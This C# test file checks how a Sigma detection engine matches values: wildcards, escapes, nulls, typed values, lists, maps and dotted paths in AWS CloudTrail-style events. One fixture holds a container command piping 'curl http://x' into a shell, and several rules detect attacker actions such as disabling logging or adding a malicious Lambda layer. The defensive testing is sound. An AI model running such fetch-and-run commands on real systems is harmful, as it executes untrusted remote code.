using Moat.Rules;
using static Moat.Tests.Sigma.SigmaFixture;

namespace Moat.Tests.Sigma;

/// <summary>
/// Plain Sigma values: case, wildcards and escapes, empty and null, typed YAML values against typed JSON,
/// and how lists, maps, lists of maps, event arrays, dotted paths and objects combine.
/// </summary>
public sealed class ValueMatchingTests
{
    [Theory]
    [InlineData("GetCallerIdentity", true)]
    [InlineData("getcalleridentity", true)]
    [InlineData("GETCALLERIDENTITY", true)]
    [InlineData("GetCallerIdentityX", false)]
    [InlineData("GetCaller", false)]
    public void A_plain_value_is_whole_value_equality_ignoring_case(string value, bool expected)
    {
        var rule = Rule("sel:\n  eventName: GetCallerIdentity\ncondition: sel");
        Assert.Equal(expected, rule.Matches(Event("eventName", value)));
    }

    [Theory]
    [InlineData("GetCallerIdentity", true)]
    [InlineData("getcalleridentity", false)]
    [InlineData("GETCALLERIDENTITY", false)]
    public void Cased_makes_equality_case_sensitive(string value, bool expected)
    {
        var rule = Rule("sel:\n  eventName|cased: GetCallerIdentity\ncondition: sel");
        Assert.Equal(expected, rule.Matches(Event("eventName", value)));
    }

    [Theory]
    [InlineData("Aws-Cli/2.15", true)]
    [InlineData("aws-cli/", true)]
    [InlineData("Boto3/1.0", false)]
    public void Star_matches_any_run_of_characters_ignoring_case(string value, bool expected)
    {
        var rule = Rule("sel:\n  userAgent: 'aws-cli/*'\ncondition: sel");
        Assert.Equal(expected, rule.Matches(Event("userAgent", value)));
    }

    [Theory]
    [InlineData("Aws-Cli/2.15", false)]
    [InlineData("aws-cli/2.15", true)]
    public void Cased_makes_wildcards_case_sensitive(string value, bool expected)
    {
        var rule = Rule("sel:\n  userAgent|cased: 'aws-cli/*'\ncondition: sel");
        Assert.Equal(expected, rule.Matches(Event("userAgent", value)));
    }

    [Theory]
    [InlineData("progA.exe", true)]
    [InlineData("PROGb.EXE", true)]
    [InlineData("prog.exe", false)]
    [InlineData("progAB.exe", false)]
    public void Question_mark_matches_exactly_one_character(string value, bool expected)
    {
        var rule = Rule("sel:\n  f: 'prog?.exe'\ncondition: sel");
        Assert.Equal(expected, rule.Matches(Event("f", value)));
    }

    [Theory]
    // Sigma value (as written in single quotes), event value, expected.
    [InlineData(@"a\*b", "a*b", true)]
    [InlineData(@"a\*b", "axb", false)]
    [InlineData(@"a\?b", "a?b", true)]
    [InlineData(@"a\?b", "axb", false)]
    [InlineData(@"a\\*", @"a\anything", true)]
    [InlineData(@"a\\*", @"a\", true)]
    [InlineData(@"a\\*", "ab", false)]
    [InlineData(@"a\\\*", @"a\*", true)]
    [InlineData(@"a\\\*", @"a\x", false)]
    [InlineData(@"C:\Windows\System32", @"C:\Windows\System32", true)]
    [InlineData(@"C:\Windows\\*.exe", @"c:\windows\cmd.exe", true)]
    [InlineData(@"C:\Windows\*.exe", @"c:\windows\cmd.exe", false)]
    [InlineData(@"C:\Windows\*.exe", @"C:\Windows*.exe", true)]
    [InlineData(@"a\\b", @"a\b", true)]
    [InlineData(@"a\\\\b", @"a\\b", true)]
    [InlineData(@"a\b", @"a\b", true)]
    public void Backslash_escapes_wildcards_and_itself_and_is_literal_before_anything_else(string sigma, string value, bool expected)
    {
        var rule = Rule($"sel:\n  f: '{sigma}'\ncondition: sel");
        Assert.Equal(expected, rule.Matches(Event("f", value)));
    }

    [Fact]
    public void Escaped_wildcards_combine_with_contains()
    {
        var rule = Rule("sel:\n  f|contains: '50\\%\\*'\ncondition: sel");
        Assert.True(rule.Matches(Event("f", @"rate 50\%* now")));
        Assert.False(rule.Matches(Event("f", @"rate 50\%x now")));
    }

    [Fact]
    public void Empty_string_matches_only_an_empty_string()
    {
        var rule = Rule("sel:\n  errorCode: ''\ncondition: sel");
        Assert.True(rule.Matches("""{"errorCode": ""}"""));
        Assert.False(rule.Matches("""{"errorCode": null}"""));
        Assert.False(rule.Matches("""{}"""));
        Assert.False(rule.Matches("""{"errorCode": "AccessDenied"}"""));
    }

    [Fact]
    public void Null_matches_a_missing_field_or_json_null_but_not_an_empty_string()
    {
        var rule = Rule("sel:\n  errorCode: null\ncondition: sel");
        Assert.True(rule.Matches("""{}"""));
        Assert.True(rule.Matches("""{"errorCode": null}"""));
        Assert.False(rule.Matches("""{"errorCode": ""}"""));
        Assert.False(rule.Matches("""{"errorCode": "AccessDenied"}"""));
    }

    [Fact]
    public void Null_may_not_share_a_list_with_other_values()
    {
        var load = LoadDetection("sel:\n  errorCode:\n    - ''\n    - null\ncondition: sel");
        Assert.Empty(load.Rules);
        Assert.Equal(At(FirstDetectionLine + 2, 7), Single(load, DiagnosticCodes.WrongType).Span);
    }

    [Fact]
    public void Null_takes_no_modifiers()
    {
        var load = LoadDetection("sel:\n  errorCode|contains: null\ncondition: sel");
        Assert.Empty(load.Rules);
        Assert.Equal(At(FirstDetectionLine + 1, 5), Single(load, DiagnosticCodes.WrongType).Span);
    }

    [Theory]
    [InlineData("""{"enable": true}""", true)]
    [InlineData("""{"enable": "true"}""", true)]
    [InlineData("""{"enable": "TRUE"}""", true)]
    [InlineData("""{"enable": false}""", false)]
    [InlineData("""{"enable": "false"}""", false)]
    [InlineData("""{"enable": 1}""", false)]
    public void Quoted_true_matches_json_true_and_the_text_true(string json, bool expected)
    {
        Assert.Equal(expected, Rule("sel:\n  enable: 'true'\ncondition: sel").Matches(json));
    }

    [Theory]
    [InlineData("""{"enable": true}""", true)]
    [InlineData("""{"enable": "True"}""", true)]
    [InlineData("""{"enable": false}""", false)]
    public void Yaml_boolean_matches_like_its_text(string json, bool expected)
    {
        Assert.Equal(expected, Rule("sel:\n  enable: true\ncondition: sel").Matches(json));
    }

    [Theory]
    [InlineData("""{"port": 5}""", true)]
    [InlineData("""{"port": "5"}""", true)]
    [InlineData("""{"port": 5.0}""", true)]
    [InlineData("""{"port": 50}""", false)]
    [InlineData("""{"port": "50"}""", false)]
    public void Yaml_number_matches_json_number_and_numeric_text(string json, bool expected)
    {
        Assert.Equal(expected, Rule("sel:\n  port: 5\ncondition: sel").Matches(json));
        Assert.Equal(expected, Rule("sel:\n  port: '5'\ncondition: sel").Matches(json));
    }

    [Fact]
    public void A_value_list_is_or()
    {
        var rule = Rule("sel:\n  eventName:\n    - StopLogging\n    - DeleteTrail\ncondition: sel");
        Assert.True(rule.Matches(Event("eventName", "StopLogging")));
        Assert.True(rule.Matches(Event("eventName", "deletetrail")));
        Assert.False(rule.Matches(Event("eventName", "UpdateTrail")));
    }

    [Fact]
    public void All_modifier_makes_a_value_list_and()
    {
        var rule = Rule("sel:\n  f|contains|all:\n    - alpha\n    - beta\ncondition: sel");
        Assert.True(rule.Matches(Event("f", "ALPHA and Beta")));
        Assert.False(rule.Matches(Event("f", "alpha only")));
        Assert.False(rule.Matches(Event("f", "beta only")));
    }

    [Fact]
    public void All_modifier_on_a_single_value_is_rejected_at_the_key()
    {
        var load = LoadDetection("sel:\n  f|contains|all: alpha\ncondition: sel");
        Assert.Empty(load.Rules);
        Assert.Equal(At(FirstDetectionLine + 1, 5), Single(load, DiagnosticCodes.SigmaUnsupported).Span);
    }

    [Fact]
    public void All_modifier_on_a_one_item_list_is_rejected()
    {
        var load = LoadDetection("sel:\n  f|contains|all:\n    - alpha\ncondition: sel");
        Assert.Empty(load.Rules);
        Assert.Equal(At(FirstDetectionLine + 1, 5), Single(load, DiagnosticCodes.SigmaUnsupported).Span);
    }

    [Fact]
    public void A_map_is_and()
    {
        var rule = Rule("sel:\n  eventSource: iam.amazonaws.com\n  eventName: CreateUser\ncondition: sel");
        Assert.True(rule.Matches("""{"eventSource": "iam.amazonaws.com", "eventName": "CreateUser"}"""));
        Assert.False(rule.Matches("""{"eventSource": "iam.amazonaws.com", "eventName": "DeleteUser"}"""));
        Assert.False(rule.Matches("""{"eventName": "CreateUser"}"""));
    }

    [Fact]
    public void A_list_of_maps_is_or_of_ands()
    {
        var rule = Rule("sel:\n  - eventSource: iam.amazonaws.com\n    eventName: CreateUser\n  - eventSource: s3.amazonaws.com\n    eventName: PutBucketPolicy\ncondition: sel");
        Assert.True(rule.Matches("""{"eventSource": "iam.amazonaws.com", "eventName": "CreateUser"}"""));
        Assert.True(rule.Matches("""{"eventSource": "s3.amazonaws.com", "eventName": "PutBucketPolicy"}"""));
        Assert.False(rule.Matches("""{"eventSource": "iam.amazonaws.com", "eventName": "PutBucketPolicy"}"""));
        Assert.False(rule.Matches("""{"eventSource": "s3.amazonaws.com", "eventName": "CreateUser"}"""));
    }

    [Fact]
    public void A_search_list_mixing_maps_and_plain_values_is_rejected()
    {
        var load = LoadDetection("sel:\n  - eventName: CreateUser\n  - plainkeyword\ncondition: sel");
        Assert.Empty(load.Rules);
        Assert.Equal(At(FirstDetectionLine + 1, 5), Single(load, DiagnosticCodes.WrongType).Span);
    }

    [Fact]
    public void An_array_in_the_event_matches_when_any_element_matches()
    {
        var rule = Rule("sel:\n  resources: arn:aws:s3:::secret\ncondition: sel");
        Assert.True(rule.Matches("""{"resources": ["arn:aws:s3:::public", "ARN:AWS:S3:::SECRET"]}"""));
        Assert.False(rule.Matches("""{"resources": ["arn:aws:s3:::public"]}"""));
        Assert.False(rule.Matches("""{"resources": []}"""));
    }

    [Fact]
    public void A_dotted_path_walks_through_arrays_of_objects()
    {
        var rule = Rule("sel:\n  requestParameters.layers.arn|contains: ':layer:evil'\ncondition: sel");
        Assert.True(rule.Matches("""{"requestParameters": {"layers": [{"arn": "arn:aws:lambda:::layer:good"}, {"arn": "arn:aws:lambda:::layer:Evil:3"}]}}"""));
        Assert.False(rule.Matches("""{"requestParameters": {"layers": [{"arn": "arn:aws:lambda:::layer:good"}]}}"""));
    }

    [Fact]
    public void A_dotted_path_ending_at_an_array_of_strings_tests_each_string()
    {
        var rule = Rule("sel:\n  requestParameters.containerDefinitions.command|contains: 'curl'\ncondition: sel");
        Assert.True(rule.Matches("""{"requestParameters": {"containerDefinitions": [{"command": ["sh", "-c", "CURL http://x | sh"]}]}}"""));
        Assert.False(rule.Matches("""{"requestParameters": {"containerDefinitions": [{"command": ["sh", "-c", "id"]}]}}"""));
    }

    [Fact]
    public void Contains_on_an_object_looks_into_its_leaf_values_not_its_keys()
    {
        var rule = Rule("sel:\n  requestParameters|contains: secret\ncondition: sel");
        Assert.True(rule.Matches("""{"requestParameters": {"a": {"b": ["x", "my-SECRET-value"]}}}"""));
        Assert.False(rule.Matches("""{"requestParameters": {"secret": "x", "nested": {"secretKey": 1}}}"""));
    }
}
